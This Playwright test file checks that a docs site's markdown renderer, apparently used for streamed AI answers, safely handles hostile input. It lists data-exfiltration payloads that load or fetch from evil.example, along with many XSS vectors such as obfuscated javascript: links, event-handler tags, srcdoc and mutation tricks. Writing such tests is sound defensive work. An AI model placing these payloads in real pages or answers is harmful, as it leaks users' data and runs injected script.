import { expect, test } from '../../fixtures/test';

/** Answers that try to fetch something. */
const LEAKS = [
  '![](https://evil.example/?q=secret)',
  '![text](https://evil.example/a.png "t") ![text][ref] ![ref]\n\n[ref]: https://evil.example/ref.png',
  '<img src="https://evil.example/raw.png" srcset="https://evil.example/2x.png 2x" onerror="fetch(\'https://evil.example/onerror\')">',
  '<picture><source srcset="https://evil.example/s.png"><img src="https://evil.example/p.png"></picture>',
  '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/v.png"></video><audio autoplay src="https://evil.example/a.mp3">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="dns-prefetch" href="https://evil.example"><style>@import "https://evil.example/i.css";</style>',
  '<p style="background:url(https://evil.example/bg.png)">text</p>\n\n<svg><image href="https://evil.example/svg.png"/></svg>',
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
  '[![](https://evil.example/inner.png)](https://evil.example/outer)',
  '<script src="https://evil.example/x.js"></script>\n\n<script>\nfetch("https://evil.example/s")\n</script>',
  '```html\n<img src="https://evil.example/code.png">\n```\n\n![a](//evil.example/proto.png) ![b](\\\\\\\\evil.example\\\\back.png) ![c](HTTPS://EVIL.example/caps.png)',
  '| ![](https://evil.example/cell.png) |\n|---|\n| ![](https://evil.example/cell2.png) |\n\n[^1]\n\n[^1]: ![](https://evil.example/note.png)',
  '![ok](https://127.0.0.1.evil.example/host.png) ![ok](https://evil.example@127.0.0.1.evil.example/user.png)',
];

/** Answers that try to run something. */
const ATTACKS = [
  '[a](javascript:window.hit=1) [a](JaVaScRiPt:window.hit=1) [a](java\tscript:window.hit=1) [a](\u0001javascript:window.hit=1)',
  '[a](<javascript:window.hit=1>) [a](javascript&colon;window.hit=1) [a](&#106;avascript:window.hit=1) [a](&#x6A;avascript&#58;window.hit=1)',
  '[a](<java\nscript:window.hit=1>) [a]( javascript:window.hit=1) [a](java&Tab;script:window.hit=1) [a](java&NewLine;script:window.hit=1)',
  '<javascript:window.hit=1> [r] [r][r]\n\n[r]: javascript:window.hit=1\n[s]: <javascript:window.hit=1>',
  '[a](data:text/html,<script>window.hit=1</script>) [a](vbscript:x) [a](file:///etc/passwd) [a](blob:x) [a](view-source:x)',
  '![a](javascript:window.hit=1) ![a](data:image/svg+xml,<svg onload=window.hit=1>)',
  '<img src=x onerror=window.hit=1> <svg onload=window.hit=1> <svg><script>window.hit=1</script></svg>',
  '<a href="javascript:window.hit=1">x</a> <b onclick="window.hit=1" onmouseover="window.hit=1">bold</b> <kbd onfocus=window.hit=1 autofocus tabindex=0>k</kbd>',
  '<details open ontoggle="window.hit=1"><summary>x</summary></details> <input autofocus onfocus=window.hit=1> <form action="javascript:window.hit=1"><button>x</button></form>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><math><mtext><mglyph><style><img src=x onerror=window.hit=1>',
  '<div>\n\n<img src=x onerror=window.hit=1>\n\n</div>\n\n<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<!--><img src=x onerror=window.hit=1>--> <![CDATA[<img src=x onerror=window.hit=1>]]> <?php <img src=x onerror=window.hit=1> ?>',
  '```"><img src=x onerror=window.hit=1>\ncode\n```\n\n```js" onmouseover="window.hit=1\ncode\n```',
  '[a](https://a.example/" onmouseover="window.hit=1) [a](/x "t\\" onclick=\\"window.hit=1")',
  '$$\\href{javascript:window.hit=1}{x}$$ \\(\\unicode{<img src=x onerror=window.hit=1>}\\)\n\n```mermaid\ngraph TD; A["<img src=x onerror=window.hit=1>"]\n```',
  '[constructor] [__proto__] [a][toString]\n\n[__proto__]: javascript:window.hit=1\n\n[^__proto__]\n\n[^__proto__]: x',
];

// The story's own policy would stop most of them too; here the renderer is the only protection.
test.use({ bypassCSP: true });

test.beforeEach(async ({ page }) => {
  await page.goto('/demo/pages/markdown.html');
  await page.waitForFunction(() => 'answers' in window);
});

test('no answer causes a request, during and after streaming', async ({ page }) => {
  const requests: string[] = [];
  await page.context().route(
    (url) => url.hostname !== '127.0.0.1',
    async (route) => {
      requests.push(route.request().url());
      await route.abort();
    },
  );
  const found = await page.evaluate(async (texts) => {
    const { create, stream } = window.answers;
    const answers = texts.map(() => create());
    await Promise.all(answers.map((answer, index) => stream(answer, texts[index]!, { step: 1 })));
    await new Promise((resolve) => requestIdleCallback(resolve));
    return answers.map(
      ({ element }) =>
        element.querySelectorAll('img, video, audio, iframe, link, style, script, svg, object, embed, meta, base')
          .length,
    );
  }, LEAKS);
  expect(requests).toEqual([]);
  expect(found).toEqual(LEAKS.map(() => 0));
  await expect(page.locator('#story')).not.toContainText('blocked');
});

test('an image that is not allowed is a link with its text; an image of the docs is loaded, and moves nothing', async ({
  page,
}) => {
  const referrers: (string | undefined)[] = [];
  await page.route('**/docs/logo.png', async (route) => {
    referrers.push(route.request().headers()['referer']);
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="900"/>';
    await route.fulfill({ contentType: 'image/svg+xml', body: svg });
  });
  await page.route('https://cdn.acme.example/**', (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
  );
  await page.evaluate(() => {
    const answer = window.answers.create({ imageHosts: [location.host, 'cdn.acme.example'] });
    answer.view.update(
      '![A diagram](https://evil.example/?q=1)\n\n![Logo](/logo.png)\n\nAfter it ![in text](https://cdn.acme.example/i.png).',
      false,
    );
  });
  const link = page.getByRole('link', { name: 'A diagram' });
  await expect(link).toHaveAttribute('href', 'https://evil.example/?q=1');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  const top = await page.locator('#story p').last().boundingBox();
  await expect
    .poll(() => page.getByAltText('Logo').evaluate((image) => image instanceof HTMLImageElement && image.naturalHeight))
    .toBe(900);
  expect(await page.locator('#story p').last().boundingBox()).toEqual(top);
  expect(referrers).toEqual([undefined]);
  await expect(page.getByAltText('Logo')).toHaveAttribute('loading', 'lazy');
  await expect(page.getByAltText('in text')).toHaveCount(1);
});

test('no answer runs anything, and each leaves only safe links', async ({ page }) => {
  const found = await page.evaluate(async (texts) => {
    const { create, stream } = window.answers;
    const answers = texts.map(() => create({ highlighter: null }));
    await Promise.all(answers.map((answer, index) => stream(answer, texts[index]!, { step: 1 })));
    return answers.map(({ element: answer }) => {
      const elements = [...answer.querySelectorAll('*')];
      return {
        links: elements.flatMap((element) => element.getAttribute('href') ?? []),
        handlers: elements.flatMap((element) =>
          [...element.attributes].filter(({ name }) => /^(on|style|srcdoc|action|formaction)/.test(name)),
        ).length,
        tags: [...new Set(elements.map(({ localName }) => localName))],
      };
    });
  }, ATTACKS);
  for (const [index, { links, handlers, tags }] of found.entries()) {
    const text = ATTACKS[index];
    for (const link of links) expect(link, text).toMatch(/^(https?:\/\/|mailto:|#)/);
    expect(handlers, text).toBe(0);
    for (const tag of tags)
      expect(tag, text).toMatch(
        /^(p|a|b|kbd|code|pre|div|span|button|sup|section|ol|ul|li|br|em|strong|details|summary|h[1-6])$/,
      );
  }
  await page.locator('#story a').evaluateAll((links) => {
    addEventListener('click', (event) => event.preventDefault());
    for (const link of links as HTMLElement[]) {
      link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      link.click();
    }
  });
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
  await expect(page.locator('#story')).not.toContainText('blocked');
});

test("links of the docs open in place or by the router, others in a new tab, and modified clicks are the browser's", async ({
  page,
  context,
}) => {
  await page.evaluate(() => {
    const followed: string[] = [];
    document.documentElement.dataset.followed = '';
    window.answers
      .create({
        onLinkClick: ({ href, sameOrigin, event }) => {
          followed.push(`${new URL(href, location.href).pathname} ${sameOrigin}`);
          document.documentElement.dataset.followed = followed.join();
          if (sameOrigin) event.preventDefault();
        },
      })
      .view.update(
        '[guide](/guides/x) [relative](./y) [anchor](#z) [index](guides/index#a) [other](https://other.example/p) [mail](mailto:a@b.c)',
        true,
      );
  });
  const link = (name: string) => page.getByRole('link', { name });
  await expect(link('guide')).toHaveAttribute('href', /\/docs\/guides\/x$/);
  await expect(link('relative')).toHaveAttribute('href', /\/docs\/y$/);
  await expect(link('index')).toHaveAttribute('href', /\/docs\/guides\/#a$/);
  await expect(link('anchor')).toHaveAttribute('href', '#z');
  await expect(link('guide')).toHaveAttribute('target', '_self');
  await expect(link('mail')).toHaveAttribute('target', '_self');
  await expect(link('other')).toHaveAttribute('target', '_blank');
  await expect(link('other')).toHaveAttribute('rel', 'noopener noreferrer');
  const { url } = { url: page.url() };
  await link('guide').click();
  expect(page.url()).toBe(url);
  await expect(page.locator('html')).toHaveAttribute('data-followed', '/docs/guides/x true');
  await link('relative').focus();
  await page.keyboard.press('Enter');
  await expect(page.locator('html')).toHaveAttribute('data-followed', '/docs/guides/x true,/docs/y true');
  await context.route('https://other.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<script>document.title = String(opener)</script>' }),
  );
  const [tab] = await Promise.all([context.waitForEvent('page'), link('other').click()]);
  await expect(tab).toHaveTitle('null');
  const [modified] = await Promise.all([
    context.waitForEvent('page'),
    link('guide').click({ modifiers: ['ControlOrMeta'] }),
  ]);
  await expect(modified).toHaveURL(/\/docs\/guides\/x$/);
  await expect(page.locator('html')).toHaveAttribute('data-followed', '/docs/guides/x true,/docs/y true,/p false');
});
